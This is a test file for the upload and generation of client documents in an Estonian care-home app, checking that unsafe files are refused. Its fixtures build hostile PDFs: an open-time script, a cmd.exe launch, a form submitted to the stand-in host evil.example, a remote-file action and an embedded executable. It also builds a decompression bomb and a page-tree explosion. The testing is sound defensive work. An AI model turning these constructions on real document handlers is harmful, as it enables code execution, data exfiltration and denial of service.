import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import sharp from 'sharp'
import { beforeAll, describe, expect, it } from 'vitest'
import { pagesOf } from '../../server/files/pdf.ts'
import { pagesWithin } from '../../server/files/pdfThread.ts'
import type { TestBrowser } from '../support/browser.ts'
import { freshDatabase } from '../support/database.ts'
import { readPdf } from '../support/pdfWords.ts'
import { type TestServer, testServer } from '../support/testServer.ts'
import { type HouseWorld, houseWorld, insertWorker } from '../support/world.ts'

/** A PDF of two pages, with the test's content. */
async function pdfWith(change: (pdf: PDFDocument) => unknown = () => undefined): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  pdf.addPage([200, 200])
  pdf.addPage([200, 200])
  await change(pdf)
  // Its position in the file must not matter: objects are packed into streams.
  return Buffer.from(await pdf.save({ useObjectStreams: true }))
}

describe('the file of a document', () => {
  let server: TestServer
  let office: TestBrowser
  let carer: TestBrowser
  let clientId: string
  let house: HouseWorld

  beforeAll(async () => {
    const db = await freshDatabase()
    house = await houseWorld(db)
    await insertWorker(db, house, 'manager', 'juhataja@koduke.example')
    await insertWorker(db, house, 'carer', 'hooldaja@koduke.example')
    clientId = await house.client({ first_name: 'Õie', last_name: 'Šmidt' })
    server = await testServer(db)
    office = await server.browser().signIn('juhataja@koduke.example')
    carer = await server.browser().signIn('hooldaja@koduke.example')
  })

  const paper = async (): Promise<string> => {
    const { body } = await office.post(`/api/client/${clientId}/documents/save`, { data: { kind: 'leping', title: 'Leping' } })
    return body.document.id
  }
  const upload = async (bytes: Buffer, name = 'leping.pdf', type = 'application/pdf') => {
    const form = new FormData()
    form.set('id', await paper())
    form.set('image', new Blob([new Uint8Array(bytes)], { type }), name)
    return office.send('POST', '/api/documents/file', form)
  }
  const drawnOf = async ({ document }: { document: { file: string } }) => readPdf(new Uint8Array(await (await show(document.file)).arrayBuffer()))
  const show = (address: string, { cookies }: TestBrowser = office) =>
    fetch(`http://127.0.0.1:${server.port}${address}`, { headers: { Cookie: `kd=${cookies.get('kd')}` } })

  it('is served as the uploaded PDF, and only to users who may see it', async () => {
    const bytes = await pdfWith()
    const { status, body } = await upload(bytes)
    expect([status, body.document.mime, body.document.pages]).toEqual([200, 'application/pdf', 2])
    const shown = await show(body.document.file)
    expect([shown.status, shown.headers.get('content-type')]).toEqual([200, 'application/pdf'])
    expect(shown.headers.get('x-content-type-options')).toBe('nosniff')
    expect(Buffer.from(await shown.arrayBuffer()).equals(bytes)).toBe(true)
    expect((await show(body.document.file, carer)).status).toBe(403)
    expect((await fetch(`http://127.0.0.1:${server.port}${body.document.file}`)).status).toBe(401)
  })

  it('that is a picture is re-encoded without its metadata, uncropped', async () => {
    const photo = sharp({ create: { width: 900, height: 1400, channels: 3, background: '#1F5E4F' } })
    const bytes = await photo
      .withExif({ IFD0: { Copyright: 'SALAJANE KOHT' } })
      .jpeg()
      .toBuffer()
    const { body } = await upload(bytes, 'tõend.pdf')
    expect([body.document.mime, body.document.pages]).toEqual(['image/webp', null])
    const shown = Buffer.from(await (await show(body.document.file)).arrayBuffer())
    expect(await sharp(shown).metadata()).toMatchObject({ format: 'webp', width: 900, height: 1400 })
    expect(shown.includes('SALAJANE KOHT')).toBe(false)
  })

  const lies: [string, () => Promise<Buffer> | Buffer][] = [
    ['a page', () => Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['a page with a PDF behind it', async () => Buffer.concat([Buffer.from('<script>alert(1)</script>'), await pdfWith()])],
    ['a program', () => Buffer.from('MZ\u0090\u0000')],
    ['only the beginning of a PDF', () => Buffer.from('%PDF-1.7\nmidagi muud')],
    ['half a PDF', async () => (await pdfWith()).subarray(0, 200)],
    ['an SVG', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['nothing', () => Buffer.alloc(0)],
  ]
  for (const [what, make] of lies) {
    it(`is refused when it is ${what}, whatever it is called`, async () => {
      const { status, body } = await upload(await make())
      expect([status, body.code]).toEqual([422, 'bad-document'])
    })
  }

  const dict = (pdf: PDFDocument, values: Record<string, unknown>) => pdf.context.obj(values as never)
  const onOpen = (pdf: PDFDocument, action: Record<string, unknown>) => pdf.catalog.set(PDFName.of('OpenAction'), dict(pdf, action))
  const acting: [string, (pdf: PDFDocument) => unknown][] = [
    ['runs a script when it is opened', (pdf) => pdf.addJavaScript('tere', 'app.alert(1)')],
    ['runs a script of a page', (pdf) => pdf.getPage(0).node.set(PDFName.of('AA'), dict(pdf, { O: { S: 'JavaScript', JS: PDFString.of('1') } }))],
    ['starts a program', (pdf) => onOpen(pdf, { S: 'Launch', F: PDFString.of('cmd.exe') })],
    ['sends a form away', (pdf) => onOpen(pdf, { S: 'SubmitForm', F: PDFString.of('https://evil.example') })],
    ['opens another file', (pdf) => onOpen(pdf, { S: 'GoToR', F: PDFString.of('//evil.example/a.pdf') })],
    ['carries a file', (pdf) => pdf.attach(Buffer.from('MZ'), 'a.exe', { mimeType: 'application/octet-stream' })],
    ['is locked by a password', (pdf) => pdf.encrypt({ userPassword: 'a', ownerPassword: 'b' })],
  ]
  for (const [what, change] of acting) {
    it(`is refused in plain words when it ${what}`, async () => {
      const { status, body } = await upload(await pdfWith(change))
      expect([status, body.code]).toEqual([422, 'unsafe-document'])
      expect(body.errors.image[0]).toContain('Prindi see uueks PDF-iks')
    })
  }

  it('is aborted at its limit of time or memory, while the server answers', async () => {
    // Forty levels of pages that each reference the level below twice: a trillion leaves in a few kilobytes.
    const floors = await pdfWith((pdf) => {
      let kid = pdf.getPage(0).ref
      for (let floor = 0; floor < 40; floor++) kid = pdf.context.register(dict(pdf, { Type: 'Pages', Kids: [kid, kid], Count: 2 }))
      pdf.catalog.set(PDFName.of('Pages'), kid)
    })
    let ticks = 0
    const ticking = setInterval(() => ticks++, 20)
    await expect(pagesWithin(floors, { ms: 4000, megabytes: 512 })).rejects.toMatchObject({ code: 'bad-document' })
    clearInterval(ticking)
    expect(ticks).toBeGreaterThan(50)
    expect(await pagesWithin(await pdfWith())).toBe(2)
  })

  it('is refused if a few bytes of it expand to huge zeros', async () => {
    const pdf = await PDFDocument.create()
    pdf.addPage()
    const plain = (await pdf.save({ useObjectStreams: false })).slice(0, -1)
    const sea = deflateSync(Buffer.alloc(200 * 1024 * 1024))
    const bomb = Buffer.concat([
      plain,
      Buffer.from(`\n99 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${sea.length} >>\nstream\n`),
      sea,
      Buffer.from('\nendstream\nendobj\n'),
    ])
    const started = performance.now()
    await expect(pagesWithin(bomb, { ms: 60_000, megabytes: 128 })).rejects.toMatchObject({ code: 'bad-document' })
    expect(performance.now() - started).toBeLessThan(50_000)
  })

  it('is refused above twenty megabytes', async () => {
    expect((await upload(Buffer.alloc(21 * 1024 * 1024, 1))).status).toBe(413)
  })

  it('is merged with the others into one PDF, pictures on pages of their own', async () => {
    const answer = await show(`/api/client/${clientId}/documents.pdf`)
    expect(answer.headers.get('content-type')).toBe('application/pdf')
    // The table of contents, two pages of the first and the picture of the second.
    const bytes = Buffer.from(await answer.arrayBuffer())
    expect(await pagesOf(bytes)).toBe(4)
    const { pages, title, language } = await readPdf(bytes)
    expect([title, language]).toEqual(['Dokumendid: Õie Šmidt', 'et'])
    // Both have the same time, so either may be first.
    const picture = pages.findIndex((lines) => lines.join() === 'Leping')
    expect([1, 3]).toContain(picture)
    expect(pages[0]).toEqual(expect.arrayContaining(['Õie Šmidt', '1 Leping 2', `2 Leping ${picture === 1 ? 3 : 4}`]))
    expect(pages[0]?.at(-1)).toMatch(/1\/4$/)
    expect((await show(`/api/client/${clientId}/documents.pdf`, carer)).status).toBe(403)
  })

  it('of a reservation contract is generated from the record, numbered and stored', async () => {
    const terms = { client_id: clientId, from: '2026-12-01', until: '2026-12-31', daily_cents: 1500, signer: 'Žanna Šmidt', house_signer: 'Ülle Õun' }
    const numbers: string[] = []
    for (const key of ['a', 'b']) {
      const { status, body } = await office.post('/api/reservation-contract/', { ...terms, signer: `${terms.signer} ${key}` })
      expect([status, body.document.kind, body.document.mime]).toEqual([200, 'broneerimisleping', 'application/pdf'])
      numbers.push(body.document.number)
      const { title, sizes, isTagged } = await drawnOf(body)
      expect([title, sizes[0], isTagged]).toEqual([`Broneerimisleping nr ${body.document.number}`, { width: 595, height: 842 }, true])
    }
    expect(numbers).toEqual(['BL-2026-001', 'BL-2026-002'])
    const wrong = await office.post('/api/reservation-contract/', { ...terms, until: '2026-11-01' })
    expect(Object.keys(wrong.body.errors)).toEqual(['until'])
  })

  it('of a service contract is generated from its terms, with or without a price and an end', async () => {
    const terms = { from: '2026-12-01', notice_days: 30, signer: 'Žanna Šmidt', house_signer: 'Ülle Õun' }
    const path = `/api/client/${clientId}/service-contract`
    for (const more of [
      { until: null, monthly_cents: 98_050, payer: 'Žanna Šmidt' },
      { until: '2027-11-30', monthly_cents: null, payer: null },
    ]) {
      const { status, body } = await office.post(path, { ...terms, ...more })
      expect([status, body.document.kind, body.document.expires]).toEqual([200, 'leping', more.until])
      const { title, pages } = await drawnOf(body)
      expect(title).toBe(`Teenuse osutamise leping nr ${body.document.number}`)
      const words = pages.flat().join('\n')
      for (const said of ['1. Pooled', 'Õie Šmidt', 'Teenus algab 1. detsember 2026', '30 päeva', 'Žanna Šmidt', 'Ülle Õun'])
        expect(words).toContain(said)
      expect(words.includes('Kehtib kuni tähtajatu')).toBe(more.until === null)
      expect(words).not.toMatch(/undefined|null|NaN|\[object/)
      expect([pages.length, pages[0]?.at(-1)]).toEqual([body.document.pages, expect.stringMatching(new RegExp(`1/${pages.length}$`))])
    }
    expect((await carer.post(path, { ...terms, until: null, monthly_cents: null, payer: null })).status).toBe(403)
  })

  it('of a past event is generated from the record, and not before it', async () => {
    const person = await house.client({ first_name: 'Õie', last_name: 'Jõgi', roomId: await house.room({ name: '101' }) })
    const draw = async (kind: string) => office.post(`/api/client/${person}/papers`, { kind, signer: 'Žanna Šmidt', house_signer: 'Ülle Õun' })
    for (const kind of ['toavahetus', 'lahkumisakt', 'surmateade']) {
      const { status, body } = await draw(kind)
      expect([status, body.code]).toEqual([422, 'record-missing'])
      expect(body.errors.kind[0]).toContain('ei ole kliendi andmetes')
    }
    await office.post(`/api/client/${person}/items/save`, { data: { category: 'prillid', name: 'Prillid', marks: 'Pruun raam' } })
    const { body: kept } = await office.get(`/api/client/${person}/items`)
    const belongings = [{ id: kept.items[0].id, outcome: 'antud', handed_to: 'Žanna Šmidt' }]
    await office.post(`/api/client/${person}/move`, { room_id: await house.room({ name: '102' }), reason: 'Vaiksem' })
    await office.post(`/api/client/${person}/parting`, { kind: 'lahkunud', place: 'Tütre juurde', belongings })
    await office.post(`/api/client/${person}/parting`, { kind: 'surnud', established_by: 'Perearst', belongings: [] })
    const drawn = [
      ['toavahetus', 'Toavahetuse akt', 'TV'],
      ['lahkumisakt', 'Lahkumisakt', 'LA'],
      ['surmateade', 'Teade elaniku surmast', 'ST'],
    ] as const
    for (const [kind, title, letters] of drawn) {
      const { status, body } = await draw(kind)
      expect([status, body.document.kind, body.document.pages]).toEqual([200, kind, 1])
      expect(body.document.number).toMatch(new RegExp(`^${letters}-\\d{4}-001$`))
      const { title: said, pages } = await drawnOf(body)
      expect(said).toBe(`${title} nr ${body.document.number}`)
      expect(pages[0]).toEqual(expect.arrayContaining([said, 'Õie Jõgi', 'Žanna Šmidt', 'Ülle Õun', 'Hooldekodu esindaja']))
    }
  })

  it('is closed by the specification’s GET only from our own page', async () => {
    const id = await paper()
    const path = `/api/client/${clientId}/document/destroy?id=${id}`
    const bare = await fetch(`http://127.0.0.1:${server.port}${path}`, {
      headers: { Cookie: `kd=${office.cookies.get('kd')}`, Authorization: `Bearer ${office.token}` },
    })
    expect(bare.status).toBe(419)
    expect((await office.send('DELETE', `/api/client/${clientId}/document?id=${id}`)).body.document.state).toBe('suletud')
  })
})
